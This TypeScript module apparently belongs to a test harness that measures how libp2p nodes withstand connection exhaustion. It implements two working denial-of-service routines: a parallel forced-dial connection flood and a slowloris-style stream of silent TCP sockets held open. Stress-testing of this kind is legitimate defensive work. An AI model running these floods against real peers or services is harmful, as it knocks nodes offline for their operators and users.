import { connect, type Socket } from 'node:net';
import type { Connection } from '@libp2p/interface';
import { multiaddr } from '@multiformats/multiaddr';
import { clientNode, pace } from './wire.js';

/** Parameters of `connFlood`. */
export interface ConnFloodArgs {
  target: string;
  from: string;
  durationMs: number;
  /** Dials in flight at once. */
  parallel: number;
  /** Epoch ms dialling stops at, instead of `durationMs` after the tool started. */
  dialUntil?: number;
  /**
   * Epoch ms until which the connections are held before `openAtEnd` is counted, so floods run
   * in several processes can be counted at one instant. Default: right after the dialling.
   */
  holdUntil?: number;
}

/** What `connFlood` observed. */
export interface ConnFloodResult {
  /** Distinct connections the node accepted. */
  dialsOk: number;
  dialsFailed: number;
  /** Most connections open at once, sampled after every dial. */
  peakOpen: number;
  /** Connections still open when the attack ended (at `holdUntil`, when given), and when that was. */
  openAtEnd: number;
  countedAt: number;
}

/**
 * One libp2p node opening fresh connections (dial with `force`) as fast as the node accepts
 * them and holding all of them, without ever opening a stream.
 */
export async function connFlood(a: ConnFloodArgs): Promise<ConnFloodResult> {
  const r: ConnFloodResult = { dialsOk: 0, dialsFailed: 0, peakOpen: 0, openAtEnd: 0, countedAt: 0 };
  const node = await clientNode(a.from);
  // Parallel dials to one peer may be joined by libp2p's dial queue: count each connection once.
  const conns = new Map<string, Connection>();
  const deadline = a.dialUntil ?? Date.now() + a.durationMs;
  const openNow = (): number => [...conns.values()].filter((c) => c.status === 'open').length;
  try {
    await Promise.all(
      Array.from({ length: a.parallel }, async () => {
        while (Date.now() < deadline) {
          try {
            const conn = await node.dial(multiaddr(a.target), { force: true, signal: AbortSignal.timeout(5000) });
            conns.set(conn.id, conn);
          } catch {
            r.dialsFailed++;
            // Refused: back off a little, as a real flooder retrying would.
            await pace(20);
          }
          r.peakOpen = Math.max(r.peakOpen, openNow());
        }
      }),
    );
    r.dialsOk = conns.size;
    if (a.holdUntil !== undefined && a.holdUntil > Date.now()) await pace(a.holdUntil - Date.now());
    r.openAtEnd = openNow();
    r.countedAt = Date.now();
  } finally {
    await Promise.resolve(node.stop()).catch(() => undefined);
  }
  return r;
}

/** Parameters of `silentTcp`. */
export interface SilentTcpArgs {
  host: string;
  port: number;
  /** Source addresses, used in turn. */
  from: string[];
  perSecond: number;
  durationMs: number;
}

/** What `silentTcp` observed. */
export interface SilentTcpResult {
  opened: number;
  /** Sockets the node closed while the attack lasted, and how long it had let them sit. */
  closedByNode: number;
  closedWithinMs: { p50: number; max: number };
  /** Sockets still open when the attack ended, and the age of the oldest of them. */
  stillOpen: number;
  oldestOpenMs: number;
}

/** Plain TCP connections that never send a byte, opened at a steady rate and held. */
export async function silentTcp(a: SilentTcpArgs): Promise<SilentTcpResult> {
  const sockets: { socket: Socket; opened: number }[] = [];
  const held: number[] = [];
  let ending = false;
  const deadline = Date.now() + a.durationMs;
  for (let i = 0; Date.now() < deadline; i++) {
    const opened = Date.now();
    const s = connect({ host: a.host, port: a.port, localAddress: a.from[i % a.from.length]! });
    s.on('error', () => undefined);
    s.on('close', () => {
      if (!ending) held.push(Date.now() - opened);
    });
    sockets.push({ socket: s, opened });
    await pace(1000 / a.perSecond);
  }
  ending = true;
  const now = Date.now();
  const open = sockets.filter(({ socket }) => !socket.destroyed && socket.readyState === 'open');
  for (const { socket } of sockets) socket.destroy();
  held.sort((x, y) => x - y);
  return {
    opened: sockets.length,
    closedByNode: held.length,
    closedWithinMs: { p50: held[Math.floor(held.length / 2)] ?? -1, max: held[held.length - 1] ?? -1 },
    stillOpen: open.length,
    oldestOpenMs: open.reduce((oldest, { opened }) => Math.max(oldest, now - opened), 0),
  };
}
